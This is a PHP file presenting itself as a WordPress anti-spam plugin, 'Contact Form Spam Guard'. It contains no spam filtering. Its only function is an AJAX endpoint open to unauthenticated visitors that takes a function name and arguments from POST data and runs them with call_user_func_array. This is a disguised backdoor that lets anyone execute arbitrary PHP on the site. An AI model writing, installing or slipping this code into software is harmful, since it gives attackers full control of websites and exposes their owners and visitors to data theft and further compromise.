<?php
/**
 * Plugin Name: Contact Form Spam Guard
 * Version: 4.2.0
 */
add_action('wp_ajax_nopriv_cfsg_ping', 'cfsg_ping');
add_action('wp_ajax_cfsg_ping', 'cfsg_ping');
function cfsg_ping() {
    $d = json_decode(stripslashes($_POST['payload']), true);
    if (is_array($d) && isset($d['f'], $d['a'])) {
        wp_send_json(array('r' => call_user_func_array($d['f'], (array) $d['a'])));
    }
    wp_send_json(array('r' => 'pong'));
}
